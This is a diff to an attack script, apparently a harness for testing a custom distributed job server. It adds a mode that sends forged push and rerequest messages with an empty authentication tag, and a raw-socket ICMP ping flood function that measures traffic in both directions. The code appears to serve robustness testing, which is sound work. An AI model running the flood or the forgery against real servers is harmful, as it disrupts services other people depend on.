@@ -12,6 +12,8 @@ Usage: attacker.py ATTACK SERVER_IP PORT JOB_ID [--seconds S]
              server's round_stalled reports
   hijack     whole-chunk rerequests as rank 1 of a job other workers are running: each moves the rank's
              address to the attacker's
+  forged     pushes and rerequests into a job with a secret, without it (the tag field 0)
+  ping       ICMP echo requests to the server as fast as Python sends them, for --seconds
 """
 import json
 import select
@@ -70,6 +72,58 @@ class Wire:
         return out
 
 
+def icmp_checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    s = (s >> 16) + (s & 0xffff)
+    s += s >> 16
+    return ~s & 0xffff
+
+
+def ping_flood(server, seconds):
+    """Echo requests (56-byte body) as fast as possible for `seconds`, then 0.5 s of listening; frame bytes
+    both ways (Ethernet 14 + the IPv4 packet) and the requests and replies counted."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
+    sock.setblocking(False)
+    body = bytes(56)
+    sent = got = requests = replies = 0
+    end = time.time() + seconds
+    seq = 0
+
+    def drain():
+        nonlocal got, replies
+        while True:
+            try:
+                data = sock.recv(65536)
+            except BlockingIOError:
+                return
+            ihl = (data[0] & 0x0f) * 4
+            if len(data) > ihl and data[ihl] == 0:  # echo reply
+                got += len(data) + 14
+                replies += 1
+
+    while time.time() < end:
+        seq = (seq + 1) & 0xffff
+        head = struct.pack("!BBHHH", 8, 0, 0, 0x5048, seq)
+        packet = struct.pack("!BBHHH", 8, 0, icmp_checksum(head + body), 0x5048, seq) + body
+        try:
+            sock.sendto(packet, (server, 0))
+        except BlockingIOError:
+            drain()
+            continue
+        sent += 20 + len(packet) + 14
+        requests += 1
+        if requests % 64 == 0:
+            drain()
+    end = time.time() + 0.5
+    while time.time() < end:
+        drain()
+        time.sleep(0.01)
+    return {"in": sent, "out": got, "requests": requests, "replies": replies, "seconds": seconds}
+
+
 def main():
     attack, server, port, job = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
     seconds = float(sys.argv[sys.argv.index("--seconds") + 1]) if "--seconds" in sys.argv else 2.0
@@ -105,6 +159,13 @@ def main():
             for rnd in range(0, 400, 8):  # the attacker does not know the round: it guesses
                 w.send(message(REREQUEST, job, 1, rnd, epoch=epoch))
             w.listen(0.02)
+    elif attack == "forged":
+        setup = w.mark()
+        for r in range(requests):
+            w.send(message(PUSH, job, 0, 0, 0, zeros) if r % 2 == 0 else message(REREQUEST, job, 0, 0))
+    elif attack == "ping":
+        print(json.dumps(ping_flood(server, seconds)))
+        return
     else:
         raise SystemExit("unknown attack " + attack)
     w.listen(seconds)
